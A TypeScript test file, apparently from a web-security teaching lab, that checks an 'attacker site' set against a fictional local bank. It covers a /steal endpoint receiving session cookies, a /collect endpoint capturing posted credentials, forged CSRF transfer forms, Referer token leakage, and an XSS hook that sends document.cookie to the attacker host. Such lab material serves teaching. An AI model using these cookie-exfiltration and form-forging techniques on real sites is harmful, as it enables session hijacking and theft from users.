import assert from "node:assert/strict";
import { after, before, beforeEach, describe, it } from "node:test";
import { startAttackerSite, type AttackerSite } from "./attacker-site";

const BANK = "http://localhost:3999";

describe("the lab's attacker site", () => {
  let site: AttackerSite;
  const get = (path: string, headers: Record<string, string> = {}) =>
    fetch(`${site.url}${path}`, { headers, redirect: "manual" });

  before(async () => {
    site = await startAttackerSite({ port: 0, bankUrl: BANK });
  });
  after(() => site.close());
  beforeEach(async () => {
    await fetch(`${site.url}/captures`, { method: "DELETE" });
  });

  it("is another site than the bank: 127.0.0.1, not localhost", () => {
    assert.match(site.url, /^http:\/\/127\.0\.0\.1:\d+$/);
  });

  it("records what a payload sends to /steal, with the page it came from", async () => {
    const response = await get("/steal?c=vaultline.session%3Dabc&page=x", { Referer: `${BANK}/dashboard` });
    assert.equal(response.headers.get("content-type"), "image/gif");
    const [capture] = site.captures();
    assert.equal(capture?.kind, "stolen");
    assert.deepEqual(capture?.data, { c: "vaultline.session=abc", page: "x" });
    assert.equal(capture?.referer, `${BANK}/dashboard`);
  });

  it("records form, JSON and text posted to /collect, and sends a navigating victim back to the bank", async () => {
    const form = await fetch(`${site.url}/collect`, {
      method: "POST",
      body: new URLSearchParams({ email: "alice@vaultline.test", password: "p" }),
      headers: { Accept: "text/html" },
      redirect: "manual",
    });
    assert.equal(form.status, 303);
    assert.equal(form.headers.get("location"), `${BANK}/dashboard`);
    await fetch(`${site.url}/collect`, {
      method: "POST",
      body: JSON.stringify({ c: "x", n: 1 }),
      headers: { "Content-Type": "application/json" },
    });
    await fetch(`${site.url}/collect`, { method: "POST", body: "plain" });
    assert.deepEqual(
      site.captures().map((c) => c.data),
      [{ email: "alice@vaultline.test", password: "p" }, { c: "x", n: "1" }, { body: "plain" }],
    );
  });

  it("refuses a body over 16 KB and records nothing", async () => {
    const response = await fetch(`${site.url}/collect`, { method: "POST", body: "x".repeat(17 * 1024) });
    assert.equal(response.status, 413);
    assert.equal(site.captures().length, 0);
  });

  it("serves forged forms aimed at the bank only, and records each one launched", async () => {
    const prize = await (await get("/prize")).text();
    assert.match(prize, new RegExp(`action="${BANK}/signout"`));
    const forged = await (await get("/forge?action=/transfers&enctype=multipart/form-data&amount=900.00")).text();
    assert.match(forged, /enctype="multipart\/form-data"/);
    assert.match(forged, /name="amount" value="900.00"/);
    assert.equal((await get("/forge?action=https://elsewhere.example/x")).status, 400);
    assert.deepEqual(
      site.captures().map((c) => [c.kind, c.data.action]),
      [
        ["forged", "POST /signout"],
        ["forged", "POST /transfers"],
      ],
    );
  });

  it("records a Referer from the bank on any page, and none without one", async () => {
    await get("/");
    await get("/anything", { Referer: `${BANK}/accounts/1?token=leaked` });
    assert.deepEqual(
      site.captures().map((c) => [c.kind, c.path, c.referer]),
      [["referer", "/anything", `${BANK}/accounts/1?token=leaked`]],
    );
  });

  it("serves the XSS hook, which reports to this site", async () => {
    const script = await (await get("/hook.js")).text();
    assert.ok(script.includes(`${site.url}/steal?`));
    assert.ok(script.includes("document.cookie"));
  });

  it("answers the inbox feed and empties it on DELETE", async () => {
    await get("/steal?c=1");
    const { captures } = (await (await get("/captures")).json()) as { captures: unknown[] };
    assert.equal(captures.length, 1);
    assert.equal((await fetch(`${site.url}/captures`, { method: "DELETE" })).status, 204);
    assert.equal(site.captures().length, 0);
  });
});
